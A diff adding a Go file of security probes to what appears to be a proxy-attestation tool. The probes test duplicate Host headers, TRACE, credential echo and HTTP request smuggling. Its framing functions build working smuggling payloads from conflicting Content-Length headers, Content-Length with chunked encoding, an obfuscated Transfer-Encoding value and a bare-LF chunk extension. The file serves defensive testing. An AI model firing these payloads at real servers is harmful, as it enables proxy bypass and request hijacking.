@@ -1,0 +1,104 @@
+package tok
+
+import (
+	"bufio"
+	"context"
+	"fmt"
+	"net/http"
+	"net/url"
+
+	"github.com/wallproof/wallproof/attest/manifest"
+	"github.com/wallproof/wallproof/probes"
+	"github.com/wallproof/wallproof/probes/kit"
+	"github.com/wallproof/wallproof/probes/paths"
+)
+
+// duplicateHost must be refused whatever else is true (RFC 9112 section 3.2).
+func duplicateHost(ctx context.Context, env *probes.Env) manifest.Observation {
+	r := bound(env, paths.Heartbeat, nil)
+	r.Hosts = []string{env.Facts.Injected.Host, kit.OutsideName(env)}
+	return kit.Web(ctx, env, r)
+}
+
+func trace(ctx context.Context, env *probes.Env) manifest.Observation {
+	r := bound(env, paths.Heartbeat, nil)
+	r.Method = http.MethodTrace
+	return web(ctx, env, r)
+}
+
+// echo asks the bound host to send the credential back in each of several
+// encodings.
+func echo(encodings ...string) probes.Attempt {
+	return func(ctx context.Context, env *probes.Env) manifest.Observation {
+		var list []*kit.Request
+		for _, e := range encodings {
+			list = append(list, bound(env, paths.Echo, url.Values{paths.QueryEncoding: {e}}))
+		}
+		return all(ctx, env, list...)
+	}
+}
+
+// framing makes the head and body of an outer request, of which one of two
+// parsers takes the end for a request of its own.
+type framing func(head, inner string) string
+
+// smuggle sends an outer request to the bound host that hides one for the
+// attacker. Only the hidden one carries the nonce: that the outer one arrives is
+// no harm.
+func smuggle(f framing) probes.Attempt {
+	return func(ctx context.Context, env *probes.Env) manifest.Observation {
+		t := kit.Begin(env)
+		defer t.End()
+		way, v6 := kit.WayOf(env.Variant)
+		outer := bound(env, paths.Sink, nil)
+		c, err := t.Stream(ctx, way, v6, outer)
+		if err != nil {
+			return t.Fail(err)
+		}
+		path := paths.Build(env.Facts.Injected.Prefix, paths.Sink, "outer", nil)
+		head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\n%s\r\n", path, outer.Host, credential(env))
+		inner := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", paths.Build("", paths.Heartbeat, env.Nonce, nil), kit.OutsideName(env))
+		if _, err := c.Write([]byte(f(head, inner))); err != nil {
+			return t.Fail(err)
+		}
+		br := bufio.NewReader(c)
+		first, err := kit.ReadAnswer(br, http.MethodPost)
+		if err != nil {
+			return t.Fail(err)
+		}
+		o := kit.Observe(first)
+		if o.Sign == manifest.SignRefused {
+			return t.Done(o)
+		}
+		second, err := kit.ReadAnswer(br, http.MethodGet)
+		if err != nil {
+			o = kit.Sign(err)
+			o.Status = int64(first.Status)
+			return t.Done(o)
+		}
+		return t.Done(kit.Observe(second))
+	}
+}
+
+func twoLengths(head, inner string) string {
+	return head + fmt.Sprintf("Content-Length: 0\r\nContent-Length: %d\r\n\r\n", len(inner)) + inner
+}
+
+func lengthAndChunked(head, inner string) string {
+	body := "0\r\n\r\n" + inner
+	return head + fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n", len(body)) + body
+}
+
+func disguisedChunked(head, inner string) string {
+	body := "0\r\n\r\n" + inner
+	return head + fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: \x0bchunked\r\n\r\n", len(body)) + body
+}
+
+// chunkExtension makes a chunk extension with a bare LF in it. A parser that ends
+// the line there sees two chunks of which the second holds the inner request; one
+// that reads on to CR LF sees one chunk, the end, and the inner request.
+func chunkExtension(head, inner string) string {
+	hidden := "0\r\n\r\n" + inner
+	return head + "Transfer-Encoding: chunked\r\n\r\n" +
+		"2;\nxx\r\n" + fmt.Sprintf("%02x\r\n", len(hidden)) + hidden + "\r\n0\r\n\r\n"
+}
